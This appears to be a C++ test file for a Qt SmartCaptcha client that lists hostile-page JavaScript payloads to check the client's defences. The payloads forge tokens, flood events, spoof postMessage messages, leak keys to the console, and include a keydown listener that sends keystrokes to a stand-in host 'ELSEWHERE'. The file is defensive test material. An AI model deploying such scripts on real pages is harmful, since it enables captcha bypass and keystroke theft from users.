// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
// SPDX-License-Identifier: MIT

#include "attack.h"
#include "shared/eventually.h"

#include <QtCore/qelapsedtimer.h>

namespace {

bool typeSecret(Scene &scene, HostileSite &)
{
    scene.type(QStringLiteral("secret"));
    return true;
}

} // namespace

// A page that says what has not happened.
QList<Attack> attacksToForge()
{
    using Mode = SmartCaptchaOptions::Mode;
    using Code = SmartCaptchaError::Code;
    QList<Attack> attacks;
    attacks << Attack{.name = "a token that nobody pressed for",
                      .script = "begun = () => { subs.success('dD0yMDI2-nobody-pressed'); ran(); done(); };"};
    attacks << Attack{.name = "tokens again and again",
                      .script =
                          "begun = () => { let n = 0; done(); setInterval(() => {"
                          "subs.success('dD0yMDI2-again-' + ++n); subs['token-expired'](); ran(); }, 4); };",
                      .watch = 1500,
                      .error = Code::ProtocolError};
    for (const bool isInline : {false, true}) {
        const QByteArray where = isInline ? ", in the captcha's own place" : "";
        attacks << Attack{.name = "a challenge that nobody asked for" + where,
                          .script = "begun = () => { subs['challenge-visible'](); ran(); done(); };",
                          .act = typeSecret,
                          .isInline = isInline,
                          .staysReady = true};
        attacks << Attack{.name = "challenges again and again" + where,
                          .script = "begun = () => { done(); setInterval(() => { subs['challenge-visible']();"
                                    "subs['challenge-hidden'](); ran(); }, 4); };",
                          .act = typeSecret,
                          .isInline = isInline,
                          .watch = 1500,
                          .error = Code::ProtocolError};
    }
    attacks << Attack{.name = "after one press, tokens again and again",
                      .script =
                          "onclick = () => { let n = 0; setInterval(() => {"
                          "subs.success('dD0yMDI2-again-' + ++n); subs['token-expired'](); ran(); }, 4); };"
                          "begun = done;",
                      .act = press,
                      .dones = 2,
                      .watch = 1500,
                      .tokens = 1,
                      .error = Code::ProtocolError};
    attacks << Attack{.name = "invisible, a token without execute()",
                      .script = "begun = () => { subs.success('dD0yMDI2-invisible'); ran(); done(); };",
                      .mode = Mode::Invisible};
    attacks << Attack{.name = "invisible, uncontrollable by its own word, a token without execute()",
                      .script =
                          "clearInterval(rendering); addEventListener('message', event => {"
                          "  const text = event.data && event.data.smartCaptchaMessage; if (!text) return;"
                          "  const message = JSON.parse(text);"
                          "  if (message.type !== 'ready' || window.said) return; window.said = true;"
                          "  for (const type of ['challengeVisible', 'challengeHidden', 'success'])"
                          "    postMessage({smartCaptchaMessage: JSON.stringify({nonce: message.nonce,"
                          "      attempt: message.attempt, type: type, token: 'dD0yMDI2-forged'})}, '*');"
                          "  ran(); done(); });"
                          "window.smartCaptcha = undefined;",
                      .mode = Mode::Invisible,
                      .hosts = {Host::Widget, Host::WebEngine},
                      .watch = 800};
    attacks << Attack{.name = "frozen smartCaptcha object, token by the bridge of native clients",
                      .script = "clearInterval(rendering); window.smartCaptcha = Object.freeze({});"
                                "setTimeout(() => { NativeClient.onChallengeVisible(); "
                                "NativeClient.onGetToken('dD0yMDI2-native'); ran(); done(); }, 1800);",
                      .mode = Mode::Invisible,
                      .watch = 800};
    attacks << Attack{.name = "an endless token",
                      .script = "begun = () => { subs.success('x'.repeat(50e6)); ran(); done(); };"};
    for (const bool isInline : {false, true}) {
        attacks << Attack{
            .name = QByteArray("a challenge in the middle of typing")
                + (isInline ? ", in the captcha's own place" : ""),
            .script =
                "addEventListener('keydown', event => event.key === 'x' &&"
                "fetch('ELSEWHERE/key?' + event.key, {mode: 'no-cors'}), true);"
                "executed = () => setTimeout(() => { subs['challenge-visible'](); ran(); done(); }, 150);"
                "begun = done;",
            .mode = Mode::Invisible,
            .act =
                [](Scene &scene, HostileSite &) {
                    if (scene.challenges > 0)
                        return true;
                    scene.execute();
                    QElapsedTimer sinceLetter;
                    sinceLetter.start();
                    for (int letter = 0; letter < 20; ++letter) {
                        letPass(60, "a person types this fast");
                        // A computer that is this busy makes pauses of its own.
                        if (sinceLetter.restart() > 300)
                            break;
                        scene.type(QStringLiteral("x"));
                    }
                    return true;
                },
            .dones = 2,
            .isInline = isInline,
            .watch = 500,
            .challenges = 1};
    }
    // The second one is too short to be told from a word by its length.
    for (const auto &[name, token] : {std::pair{"the token in the console", "short-secret"},
                                      {"a token of three characters in the console",
                                       "\u0436\u0449"
                                       "7"}})
        attacks << Attack{
            .name = name,
            .script = "addEventListener('click', () => { subs.success('" + QByteArray(token)
                + "'); setTimeout(() => { for (const say of [console.log, console.error, console.debug])"
                  "say('they have "
                + token + " now'); ran(); setTimeout(done, 200); }, 500); }); begun = done;",
            .act = press,
            .dones = 3,
            .tokens = 1,
            .secrets = {token}};
    attacks << Attack{.name = "keys in the console",
                      .script =
                          "begun = () => { for (const say of [console.log, console.error, console.debug])"
                          "say('ysc1_keyOfTheSite17 ysc2_keyOfTheServer17'); ran(); done(); };",
                      .secrets = {"keyOfTheSite17", "keyOfTheServer17"}};
    for (const auto &[name, prepare] : {std::pair{"the captcha is hidden", &Scene::hideCaptcha},
                                        {"something is in front of the captcha", &Scene::coverCaptcha}}) {
        attacks << Attack{.name = QByteArray("success while ") + name,
                          .script =
                              "begun = () => { let n = 0; setInterval(() => {"
                              "subs.success('forged-token-' + ++n); if (n > 2) ran(); }, 400); done(); };",
                          .act =
                              [hide = prepare](Scene &scene, HostileSite &) {
                                  (scene.*hide)();
                                  for (int times = 0; times < 3; ++times) {
                                      letPass(300, "the page may hear of it");
                                      scene.press(underTheMouse);
                                  }
                                  return true;
                              },
                          .watch = 2500};
    }
    attacks << Attack{.name = "a script that throws ends once",
                      .script = "begun = () => { for (let i = 0; i < 500; ++i)"
                                "subs['javascript-error']({message: 'x'}); ran(); done(); };",
                      .error = Code::JavascriptError};
    return attacks;
}
